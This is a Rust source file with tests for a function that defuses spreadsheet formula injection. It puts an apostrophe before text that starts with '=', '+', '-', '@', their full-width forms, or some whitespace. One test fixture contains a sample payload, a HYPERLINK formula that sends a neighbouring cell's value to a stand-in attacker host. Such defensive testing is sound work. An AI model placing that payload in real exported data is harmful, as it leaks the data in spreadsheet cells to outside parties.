//! Texts that a spreadsheet would run, made harmless. A customer's name or a comment is typed by somebody else, and a
//! cell that begins with `=` is a formula to Excel, `LibreOffice` and Sheets: it may send what stands beside it elsewhere.

use std::borrow::Cow;

/// What makes a cell a formula where it comes first: the signs themselves, as the full-width forms that some programs
/// take for them, and the white space that some take off before they look.
const FORMULA_STARTS: [char; 11] =
    ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// The text with an apostrophe before it where it would be a formula. One that is of the text's own and stands before
/// such a sign is doubled, so that taking off one apostrophe wherever a sign follows gives every text back.
pub fn harmless(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches('\'').starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, cell: &str) {
        assert_eq!(harmless(text), cell);
    }

    #[test]
    fn a_formula_gets_an_apostrophe() {
        check(
            "=HYPERLINK(\"https://evil.example/?\"&A1)",
            "'=HYPERLINK(\"https://evil.example/?\"&A1)",
        );
        for start in FORMULA_STARTS {
            check(&format!("{start}1+1"), &format!("'{start}1+1"));
        }
    }

    #[test]
    fn any_other_text_stays_as_it_is() {
        for text in ["", "Åse", "1=1", "a+b", "'t Hooft", "'", "kari@callcenter.no", " =1"] {
            check(text, text);
        }
    }

    #[test]
    fn an_apostrophe_of_its_own_can_be_told() {
        check("'=1", "''=1");
        check("''=1", "'''=1");
    }
}
